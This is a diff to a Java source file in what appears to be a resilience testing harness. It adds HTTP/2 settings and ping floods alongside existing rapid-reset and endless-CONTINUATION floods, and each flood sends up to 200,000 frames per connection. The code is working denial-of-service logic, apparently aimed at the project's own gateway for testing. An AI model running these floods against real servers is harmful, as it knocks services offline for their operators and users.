@@ -9,10 +9,18 @@ import io.lancang.standalone.siege.attack.Target.Gate;
 import io.lancang.standalone.siege.wire.HttpConnection;
 import java.io.IOException;
 
-/** HTTP/2 in clear text, by prior knowledge: streams that are opened and reset, and headers that never end. */
-record Http2Frames(String name, String what) implements Attack {
+/**
+ * HTTP/2 in clear text, by prior knowledge: frames that the protocol allows and that cost the server more than their sender.
+ *
+ * @param name as {@link Attack#name}
+ * @param what as {@link Attack#what}
+ * @param flood what is sent again and again
+ */
+record Http2Frames(String name, String what, Flood flood) implements Attack {
+    private static final int SETTINGS = 4;
+    private static final int PING = 6;
     private static final byte[] PREFACE =
-            joined(bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, new byte[0]));
+            joined(bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, new byte[0]));
     private static final int HEADERS = 1;
     private static final int RESET = 3;
     private static final int CONTINUATION = 9;
@@ -22,16 +30,30 @@ record Http2Frames(String name, String what) implements Attack {
 
     private static final int FRAMES = 200_000;
 
+    /** What a client repeats. */
+    enum Flood {
+        /** Streams that are opened and reset. */
+        OF_RESETS,
+        /** Headers that never end. */
+        OF_HEADERS,
+        /** Settings, each of which is applied and acknowledged. */
+        OF_SETTINGS,
+        /** Pings, each of which is answered. */
+        OF_PINGS
+    }
+
     @Override
     public void run(Assault assault) throws InterruptedException {
         assault.againAndAgain(8, _ -> {
             HttpConnection connection = assault.connect(Gate.GATEWAY);
             try {
                 connection.send(PREFACE);
-                if (name.equals("rapid-reset")) {
-                    reset(assault, connection);
-                } else {
-                    goOn(assault, connection);
+                switch (flood) {
+                    case OF_RESETS -> reset(assault, connection);
+                    case OF_HEADERS -> goOn(assault, connection);
+                    case OF_SETTINGS ->
+                        repeat(assault, connection, frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, -1, -1}));
+                    case OF_PINGS -> repeat(assault, connection, frame(PING, 0, 0, new byte[8]));
                 }
                 assault.tally().count("all frames taken");
             } catch (IOException closed) {
@@ -56,6 +78,12 @@ record Http2Frames(String name, String what) implements Attack {
         byte[] header = joined(new byte[] {0, 1, 'x', 100}, bytes("v".repeat(100)));
         for (int sent = 0; sent < FRAMES && assault.goesOn(); sent++) {
             connection.send(frame(CONTINUATION, 0, 1, header));
+        }
+    }
+
+    private static void repeat(Assault assault, HttpConnection connection, byte[] frame) throws IOException {
+        for (int sent = 0; sent < FRAMES && assault.goesOn(); sent++) {
+            connection.send(frame);
         }
     }
 
